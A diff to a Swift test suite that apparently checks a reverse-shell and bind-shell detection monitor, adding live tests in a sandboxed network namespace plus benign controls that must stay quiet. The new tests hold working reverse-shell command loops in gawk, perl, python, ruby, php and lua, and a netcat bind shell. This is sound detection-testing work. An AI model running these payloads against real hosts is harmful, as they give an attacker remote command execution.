@@ -21,7 +21,8 @@ final class ReverseShellLiveTests: XCTestCase {
                           ("/usr/bin/bash", "bash"), ("/usr/bin/perl", "perl-base"),
                           ("/usr/bin/socat", "socat"), ("/usr/bin/ncat", "ncat"), ("/usr/bin/nc.openbsd", "netcat-openbsd"),
                           ("/usr/bin/gawk", "gawk"), ("/usr/bin/node", "nodejs"), ("/usr/bin/openssl", "openssl"),
-                          ("/usr/bin/script", "bsdutils")])
+                          ("/usr/bin/script", "bsdutils"), ("/usr/bin/ruby", "ruby"), ("/usr/bin/php8.2", "php-cli"),
+                          ("/usr/bin/lua5.4", "lua5.4")])
         if Self.scene == nil { Self.scene = try ReverseShellLiveScene() }
     }
 
@@ -171,15 +172,64 @@ final class ReverseShellLiveTests: XCTestCase {
         }
     }
 
-    /// Known race, gated: busybox `sh -c id` execs `id` at once, and when gawk's connect (audit,
-    /// delivered late) arrives after that second exec, the child no longer looks like the `sh -c`
-    /// of a command loop. Missed once in a clean CI run and once in 4 full local runs; passes alone.
+    /// busybox `sh -c id` execs `id` at once: capture often reads the command as `id`, in part (no
+    /// parent, no descriptors) or not at all. The loop is judged from the state's record (parent from
+    /// the fork) and named after gawk, whatever order the connect and the execs arrive in.
     func testGawkInetCommandLoop() throws {
-        guard ProcessInfo.processInfo.environment["RW_REVERSE_SHELL_RACES"] == "1" else {
-            throw XCTSkip("known race (late audit connect vs. `sh -c` exec'ing its command), run with RW_REVERSE_SHELL_RACES=1")
-        }
-        try assertReverseShell { port in
+        try assertReverseShell(shellNamed: "gawk") { port in
             ["/usr/bin/gawk", "BEGIN{s=\"/inet/tcp/0/\(Self.attacker)/\(port)\";while((s|&getline c)>0){while((c|getline l)>0)print l|&s;close(c)};close(s)}"]
+        }
+    }
+
+    /// perl's `open(my $p, "-|", $cmd)`: a plain word is exec'd without a shell (popen with no
+    /// `sh -c`); its output comes back on a pipe only perl holds. Named after perl.
+    func testPerlPopenCommandLoop() throws {
+        try assertReverseShell(shellNamed: "perl") { port in
+            ["/usr/bin/perl", "-MIO::Socket::INET", "-e", """
+            $c=IO::Socket::INET->new(PeerAddr=>"\(Self.attacker):\(port)") or exit 1;\
+            while(<$c>){chomp;open(my $p,"-|",$_) or next;print {$c} <$p>;close $p}
+            """]
+        }
+    }
+
+    /// python's `os.popen(cmd)` (through `sh -c`), the command text straight from the socket.
+    func testPythonOsPopenCommandLoop() throws {
+        try assertReverseShell(shellNamed: "python3") { port in
+            ["/usr/bin/python3", "-c", """
+            import socket,os
+            s=socket.create_connection(("\(Self.attacker)",\(port)),5)
+            while True:
+                d=s.recv(1024)
+                if not d: break
+                s.sendall(os.popen(d.decode()).read().encode())
+            """]
+        }
+    }
+
+    /// ruby's `IO.popen("id")` execs the command directly (no shell).
+    func testRubyIOPopenCommandLoop() throws {
+        try assertReverseShell(shellNamed: "ruby") { port in
+            ["/usr/bin/ruby", "-rsocket", "-e",
+             "s=TCPSocket.new(\"\(Self.attacker)\",\(port));while(l=s.gets);s.write(IO.popen(l.chomp).read);end"]
+        }
+    }
+
+    /// php's `shell_exec` (`sh -c`), on a socket from `fsockopen`. By its versioned path: /usr/bin/php
+    /// goes through /etc/alternatives, which the container does not have.
+    func testPhpShellExecCommandLoop() throws {
+        try assertReverseShell(shellNamed: "php8.2") { port in
+            ["/usr/bin/php8.2", "-r", "$s=fsockopen(\"\(Self.attacker)\",\(port));while(($c=fgets($s))!==false){fwrite($s,(string)shell_exec($c));}"]
+        }
+    }
+
+    /// lua with luasocket, `io.popen(cmd):read("a")` (`sh -c`).
+    func testLuaPopenCommandLoop() throws {
+        guard FileManager.default.fileExists(atPath: "/usr/share/lua/5.4/socket.lua") else {
+            throw HarnessError("luasocket for lua 5.4 is missing: apt-get install lua-socket")
+        }
+        try assertReverseShell(shellNamed: "lua5.4") { port in
+            ["/usr/bin/lua5.4", "-e", "local s=require(\"socket\").tcp();assert(s:connect(\"\(Self.attacker)\",\(port)));"
+             + "while true do local c=s:receive(\"*l\");if not c then break end;local p=io.popen(c);s:send(p:read(\"a\"));p:close() end"]
         }
     }
 
@@ -200,6 +250,105 @@ final class ReverseShellLiveTests: XCTestCase {
             os.execv("/bin/sh",["sh","-i"])
             """]
         }
+    }
+
+    // MARK: - Bind shells: inbound, told apart from reverse shells
+
+    /// `nc -lp P -e /bin/sh` in the container; the attacker (namespace A) connects in and gets `id`
+    /// answered. Exactly one `bind-shell` alert (Critical) naming the attacker as the peer, and no
+    /// `reverse-shell` alert for it.
+    /// The port is outside the ephemeral range: busybox nc closes its listener at accept, so only
+    /// the port tells the accepted socket from one it connected.
+    func testBusyboxNetcatListenExecIsABindShell() throws {
+        let scene = try self.scene
+        let port = Int.random(in: 20_000...32_000)
+        let before = try scene.monitor.alerts().count
+        _ = try scene.container.execDetached(["nc", "-lp", "\(port)", "-e", "/bin/sh"], outputPath: scene.scratch.at("bind-\(port).out"))
+        let client = try connectIn(from: scene.network.namespaceA, to: TestNetwork.addressB, port: port)
+        XCTAssertTrue(client.stdout.contains("uid=0(root)"), "the bind shell answered id: \(client)")
+        let mine: ([EndToEndAlert]) -> [EndToEndAlert] = {
+            $0.dropFirst(before).filter { $0.containerID == scene.shortContainerID && $0.remoteAddress == Self.attacker
+                && ($0.ruleID == "bind-shell" || $0.ruleID == "reverse-shell") && !Self.techniquePorts.contains($0.remotePort ?? -1) }
+        }
+        _ = try scene.monitor.waitForAlerts(timeout: .seconds(10)) { !mine($0).isEmpty }
+        Thread.sleep(forTimeInterval: 3)
+        let alerts = mine(try scene.monitor.alerts())
+        let every = try scene.monitor.alerts().dropFirst(before)
+        XCTAssertEqual(alerts.map(\.ruleID), ["bind-shell"], "every new alert:\n"
+                       + every.map(\.reverseShellSummary).joined(separator: "\n")
+                       + "\nlog tail:\n\(scene.monitor.log.suffix(1500))")
+        XCTAssertEqual(alerts.first?.raw["priority"] as? String, "Critical")
+        XCTAssertNotNil(alerts.first?.remotePort, "the alert names the peer's port")
+    }
+
+    /// An inetd-style service on the host (namespace B, no container): it accepts a connection,
+    /// puts it on a shell script's stdio and runs the script. Never a reverse shell; a bind-shell
+    /// Warning that names the peer (allowlistable by executable).
+    func testHostInetdStyleServiceIsNotAReverseShell() throws {
+        let scene = try self.scene
+        let port = Int.random(in: 20_000...60_000)
+        let before = try scene.monitor.alerts().count
+        let service = """
+        import os,socket,sys
+        s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);s.bind(("198.51.100.2",int(sys.argv[1])));s.listen(1)
+        s.settimeout(15);c,_=s.accept()
+        if os.fork()==0:
+            [os.dup2(c.fileno(),f) for f in (0,1,2)]
+            os.execv("/usr/bin/bash",["bash","-c","read l; id; read l"])
+        os.wait()
+        """
+        let output = scene.scratch.at("inetd-\(port).out")
+        let server = Process()
+        server.executableURL = URL(fileURLWithPath: TestNetwork.ip)
+        server.arguments = ["netns", "exec", scene.network.namespaceB, NetnsListener.python, "-c", service, "\(port)"]
+        FileManager.default.createFile(atPath: output, contents: nil)
+        server.standardOutput = FileHandle(forWritingAtPath: output)
+        server.standardError = FileHandle(forWritingAtPath: output)
+        try server.run()
+        defer { if server.isRunning { server.terminate() }; server.waitUntilExit() }
+        let client = try connectIn(from: scene.network.namespaceA, to: TestNetwork.addressB, port: port)
+        XCTAssertTrue(client.stdout.contains("uid=0(root)"), "the service's script ran: \(client) \(CommandRunner.readCapped(output))")
+        let mine: ([EndToEndAlert]) -> [EndToEndAlert] = {
+            $0.dropFirst(before).filter { $0.containerID == "host" && $0.remoteAddress == Self.attacker
+                && ($0.ruleID == "bind-shell" || $0.ruleID == "reverse-shell") }
+        }
+        _ = try scene.monitor.waitForAlerts(timeout: .seconds(10)) { !mine($0).isEmpty }
+        Thread.sleep(forTimeInterval: 3)
+        let alerts = mine(try scene.monitor.alerts())
+        let every = try scene.monitor.alerts().dropFirst(before)
+        XCTAssertEqual(alerts.map(\.ruleID), ["bind-shell"], "every new alert:\n"
+                       + every.map(\.reverseShellSummary).joined(separator: "\n")
+                       + "\nlog tail:\n\(scene.monitor.log.suffix(1500))")
+        XCTAssertEqual(alerts.first?.raw["priority"] as? String, "Warning")
+    }
+
+    /// Connects from `namespace` to `address:port` (retrying for up to 10 s while the listener
+    /// starts), sends `id`, and returns what came back within 5 s. Like an attacker's session, it
+    /// stays a second after the answer: a shell that is gone within a millisecond of its exec has
+    /// nothing left in /proc to read (its descriptors close as it exits).
+    private func connectIn(from namespace: String, to address: String, port: Int) throws -> CommandResult {
+        let client = """
+        import socket,sys,time
+        end=time.monotonic()+10
+        while True:
+            try:
+                c=socket.create_connection((sys.argv[1],int(sys.argv[2])),2);break
+            except OSError:
+                if time.monotonic()>end: raise
+                time.sleep(0.1)
+        c.sendall(b"id\\n");c.settimeout(5);out=b""
+        try:
+            while b"uid=" not in out or not out.endswith(b"\\n"):
+                d=c.recv(4096)
+                if not d: break
+                out+=d
+        except socket.timeout:
+            pass
+        time.sleep(1)
+        c.close();print(out.decode("utf-8","replace"))
+        """
+        return try CommandRunner.run([TestNetwork.ip, "netns", "exec", namespace, NetnsListener.python, "-c", client, address, "\(port)"],
+                                     timeout: .seconds(20))
     }
 
     // MARK: - Benign controls: none may alert (and the monitor must have seen each one run)
@@ -347,6 +496,77 @@ final class ReverseShellLiveTests: XCTestCase {
             XCTAssertEqual(run.status, 0, "the app ran its command after the API answered: \(run)")
             XCTAssertTrue(run.stdout.contains("Linux"), "\(run)")
         }
+    }
+
+    /// Launchers joining a shell to local ends only: socat's own stdio, a unix socket (socat and
+    /// ncat). The shell really runs `id`; no end is a network socket, so quiet.
+    func testBenignSocatStdioExecDoesNotAlert() throws {
+        try assertNoReverseShell(listening: false) { _, mark in
+            let run = try self.scene.container.exec(["sh", "-c", "echo id | /usr/bin/socat STDIO EXEC:/bin/sh # \(mark)"], timeout: .seconds(10))
+            XCTAssertTrue(run.stdout.contains("uid=0(root)"), "the shell behind socat's stdio ran id: \(run)")
+        }
+    }
+
+    func testBenignSocatUnixListenExecDoesNotAlert() throws {
+        try assertNoReverseShell(listening: false) { _, mark in
+            let sock = "/tmp/\(mark).sock"
+            let run = try self.scene.container.exec(["sh", "-c", "/usr/bin/socat UNIX-LISTEN:\(sock) EXEC:/bin/sh & "
+                                                     + "i=0; while [ ! -S \(sock) ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i+1)); done; "
+                                                     + "echo id | /usr/bin/socat -t 3 - UNIX-CONNECT:\(sock); wait # \(mark)"],
+                                                    timeout: .seconds(15))
+            XCTAssertTrue(run.stdout.contains("uid=0(root)"), "the shell behind the unix socket ran id: \(run)")
+        }
+    }
+
+    func testBenignNcatShExecOnUnixSocketDoesNotAlert() throws {
+        try assertNoReverseShell(listening: false) { _, mark in
+            let sock = "/tmp/\(mark).sock"
+            let run = try self.scene.container.exec(["sh", "-c", "/usr/bin/ncat -lU \(sock) --sh-exec /bin/sh & "
+                                                     + "i=0; while [ ! -S \(sock) ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i+1)); done; "
+                                                     // ncat ends the session at the client's EOF: keep stdin open until the answer is back.
+                                                     + "(echo id; sleep 1) | /usr/bin/ncat -U \(sock); wait # \(mark)"],
+                                                    timeout: .seconds(15))
+            XCTAssertTrue(run.stdout.contains("uid=0(root)"), "the shell behind ncat's unix socket ran id: \(run)")
+        }
+    }
+
+    /// A service script that calls an API (the listener) and then runs one `sh -c` with its output
+    /// captured: the command is its own, not read from the connection. Quiet.
+    func testBenignServiceScriptRunningOneCapturedCommandDoesNotAlert() throws {
+        try assertNoReverseShell(listening: true) { port, mark in
+            let script = """
+            import socket,subprocess
+            s=socket.create_connection(("\(Self.attacker)",\(port)),5);s.sendall(b"GET /config HTTP/1.0\\r\\n\\r\\n");s.recv(100);s.close()
+            print(subprocess.run("uname -s; echo \(mark)",shell=True,capture_output=True,text=True).stdout.strip())
+            """
+            let run = try self.runScript(script, named: "\(mark)-service.py")
+            XCTAssertTrue(run.stdout.contains("Linux"), "the service ran its command: \(run)")
+        }
+    }
+
+    /// A CI-runner-like script: fetches a job from a server (the listener), then runs its fixed
+    /// steps one after another with the output captured and reported. Quiet.
+    func testBenignCIRunnerScriptDoesNotAlert() throws {
+        try assertNoReverseShell(listening: true) { port, mark in
+            let script = """
+            import socket,subprocess
+            s=socket.create_connection(("\(Self.attacker)",\(port)),5);job=s.recv(100);s.close()
+            out=[]
+            for step in ["echo checkout \(mark)","uname -m","ls / | wc -l"]:
+                out.append(subprocess.run(["/bin/sh","-c",step],capture_output=True,text=True).stdout.strip())
+            print(" | ".join(out))
+            """
+            let run = try self.runScript(script, named: "\(mark)-runner.py")
+            XCTAssertTrue(run.stdout.contains("checkout"), "the runner ran its steps: \(run)")
+        }
+    }
+
+    /// Writes a python script into the container's /tmp (its own tmpfs) and runs it.
+    private func runScript(_ text: String, named name: String) throws -> CommandResult {
+        let scene = try self.scene
+        let write = try scene.container.exec(["sh", "-c", "cat > /tmp/\(name)"], timeout: .seconds(10), stdin: text)
+        XCTAssertEqual(write.status, 0, "writing \(name): \(write)")
+        return try scene.container.exec(["/usr/bin/python3", "/tmp/\(name)"], timeout: .seconds(15))
     }
 
     // MARK: - Helpers
